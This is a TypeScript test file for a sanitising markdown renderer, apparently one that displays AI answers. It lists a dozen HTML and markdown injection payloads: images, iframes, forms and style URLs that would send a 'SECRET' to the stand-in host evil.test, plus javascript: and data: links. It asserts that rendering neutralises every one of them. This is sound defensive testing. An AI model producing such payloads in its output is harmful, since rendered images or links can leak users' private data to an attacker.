import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import Markdown from 'react-markdown'
import rehypeSanitize from 'rehype-sanitize'
import remarkGfm from 'remark-gfm'
import { answerLink, ANSWER_SCHEMA, sayDays } from './markdown-rules.ts'

function html(text: string): string {
  return renderToStaticMarkup(
    createElement(
      Markdown,
      { remarkPlugins: [remarkGfm, sayDays], rehypePlugins: [[rehypeSanitize, ANSWER_SCHEMA]] },
      text,
    ),
  )
}

const ATTACKS = {
  image: '![a](https://evil.test/p?d=SECRET)',
  'image by reference': '![a][r]\n\n[r]: https://evil.test/p?d=SECRET',
  'image in a table': '| a |\n| - |\n| ![x](https://evil.test/p) |',
  'img tag': '<img src="https://evil.test/p?d=SECRET" onerror=alert(1)>',
  style: '<p style="background:url(https://evil.test/p)">x</p>',
  svg: '<svg><image href="https://evil.test/p"/></svg>',
  video: '<video poster="https://evil.test/p"></video>',
  picture: '<picture><source srcset="https://evil.test/p"><img></picture>',
  'protocol-relative image': '![a](//evil.test/p)',
  input: '<input type=image src="https://evil.test/p">',
  form: '<form action="https://evil.test"><input name=q></form>',
  'task list': '- [ ] <input src=//evil.test>',
  iframe: '<iframe src="https://evil.test/p"></iframe>',
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`an answer loads nothing: ${name}`, () => {
    const tags = html(attack).match(/<(\w+)[^>]*>/g) ?? []
    assert.deepEqual(
      tags.filter((tag) =>
        /^<(img|image|picture|source|video|audio|iframe|input|form|svg|style|link|object)|\bsrc|style=|\bon\w+=/i.test(
          tag,
        ),
      ),
      [],
    )
  })
}

test('script addresses lead nowhere', () => {
  assert.ok(
    !/javascript:/i.test(
      html('[x](javascript:alert(1)) [y](java&#10;script:alert(1)) [z](data:text/html,x)').replaceAll(/>[^<]*</g, '><'),
    ),
  )
  for (const href of ['javascript:alert(1)', 'data:text/html,x', '//evil.test', '/\\evil.test', '', undefined]) {
    assert.equal(answerLink(href).kind, 'none', String(href))
  }
})

test('links say where they go', () => {
  assert.deepEqual(answerLink('https://example.com/a?b=1'), {
    kind: 'outside',
    href: 'https://example.com/a?b=1',
    host: 'example.com',
  })
  assert.deepEqual(answerLink('/deals/d1'), { kind: 'inside', href: '/deals/d1', host: '' })
  assert.equal(answerLink('https://good.test@evil.test/').host, 'evil.test')
})

test('words, lists, tables and the start of a list stay', () => {
  const out = html('**b** _i_ `c`\n\n3. x\n\n| a | b |\n| - | -: |\n| 1 | 2 |')
  for (const part of ['<strong>', '<em>', '<code>', '<ol start="3">', '<table>', '<th'])
    assert.ok(out.includes(part), part)
})

test('days of prose are said, those of code and addresses are kept', () => {
  assert.equal(
    html('Due **2026-12-01**, see [it](/deals?since=2026-12-01) and `2026-12-01`.'),
    '<p>Due <strong>1 Dec 2026</strong>, see <a href="/deals?since=2026-12-01">it</a> and <code>2026-12-01</code>.</p>',
  )
})
